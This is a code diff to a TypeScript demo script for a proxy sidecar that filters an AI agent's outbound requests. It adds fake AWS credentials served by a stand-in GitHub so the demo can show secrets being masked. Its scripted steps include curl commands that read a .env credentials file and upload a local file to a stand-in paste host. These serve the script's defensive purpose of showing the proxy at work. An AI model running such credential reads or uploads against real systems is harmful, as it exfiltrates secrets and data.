@@ -10,11 +10,15 @@ import { promisify } from 'node:util';
 import { createBareRepo, gitBackendHandler } from '../../../e2e/support/git/git-backend.ts';
 import { startTestSidecar } from '../../../e2e/support/sidecar/test-sidecar.ts';
 import type { TestSidecar } from '../../../e2e/support/sidecar/test-sidecar.ts';
-import { createTestCa, startHttpsUpstream } from '../../../e2e/support/sidecar/upstreams.ts';
+import { createTestCa, echoHandler, startHttpsUpstream } from '../../../e2e/support/sidecar/upstreams.ts';
 import type { TestUpstream } from '../../../e2e/support/sidecar/upstreams.ts';
 import { HEADER_DECISION } from '../../../api/src/index.ts';
 
 const run = promisify(execFile);
+
+// Well-formed but fake AWS credentials, served by the stand-in GitHub to show masking.
+const DEMO_KEY_ID = 'AKIAQ4T7ZK2MWX3RPL6N';
+const DEMO_SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ8Lk3Tq9V';
 
 interface Step {
   say: string;
@@ -35,7 +39,12 @@ function verdictLine(out: string, err: string): string {
     return `${paint(kind === 'hold' ? '33' : '31', kind.toUpperCase().padEnd(5))} ${code}: ${reason}`;
   }
   const status = /^HTTP\/1\.1 (\d+)/m.exec(out.split(/\r?\n\r?\n/).find((b) => !b.startsWith('HTTP/1.1 200 Connection')) ?? '')?.[1];
-  if (status) return `${paint('32', 'ALLOW')} upstream answered ${status}`;
+  if (status) {
+    const masked = [...out.matchAll(/\[REDACTED:([a-z0-9-]+)\]/g)].map((m) => m[1]);
+    const body = out.split(/\r?\n\r?\n/).pop() ?? '';
+    if (masked.length) return `${paint('32', 'ALLOW')} upstream answered ${status}; ${paint('36', `masked ${masked.length} secret(s): ${[...new Set(masked)].join(', ')}`)}\n        the agent saw: ${body.trim()}`;
+    return `${paint('32', 'ALLOW')} upstream answered ${status}`;
+  }
   return `${paint('31', 'FAIL ')} ${err.trim().split('\n').pop() ?? ''}`;
 }
 
@@ -44,7 +53,14 @@ export async function runProxySession(write: (s: string) => void): Promise<void>
   const repos = createBareRepo('acme', 'app').root;
   const upstreams: TestUpstream[] = [];
   const git = await startHttpsUpstream(ca, ['github.com'], gitBackendHandler(repos));
-  const api = await startHttpsUpstream(ca, ['registry.npmjs.org', 'api.openai.com', 'raw.githubusercontent.com', 'paste.example']);
+  const api = await startHttpsUpstream(ca, ['registry.npmjs.org', 'api.openai.com', 'raw.githubusercontent.com', 'paste.example'], (req, res, body) => {
+    // A file that should never have been committed: the agent must not see the credentials.
+    if (req.url === '/acme/app/main/deploy/settings.json') {
+      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ region: 'eu-west-1', aws_access_key_id: DEMO_KEY_ID, aws_secret_access_key: DEMO_SECRET }));
+      return;
+    }
+    echoHandler(req, res, body);
+  });
   upstreams.push(git, api);
   const sidecar: TestSidecar = await startTestSidecar({
     resolve: {
@@ -72,6 +88,7 @@ export async function runProxySession(write: (s: string) => void): Promise<void>
     { say: 'clone the repository', cmd: 'git', args: ['clone', '-q', 'https://github.com/acme/app.git', join(work, 'app')] },
     { say: 'install a dependency', ...pair(curl('https://registry.npmjs.org/express')) },
     { say: 'ask the model for help', ...pair(curl('https://api.openai.com/v1/chat/completions', '-H', 'content-type: application/json', '-d', '{"model":"gpt-5","messages":[{"role":"user","content":"fix the bug"}]}')) },
+    { say: 'read the deployment settings (they contain AWS keys)', ...pair(curl('https://raw.githubusercontent.com/acme/app/main/deploy/settings.json')) },
     { say: 'read a credentials file', ...pair(curl('https://raw.githubusercontent.com/acme/app/main/.env')) },
     { say: 'publish a package', ...pair(curl('-X', 'PUT', 'https://registry.npmjs.org/acme-app', '-d', '{}')) },
     { say: 'upload the source to a paste site', ...pair(curl('https://paste.example/upload', '--data-binary', '@/etc/os-release')) },
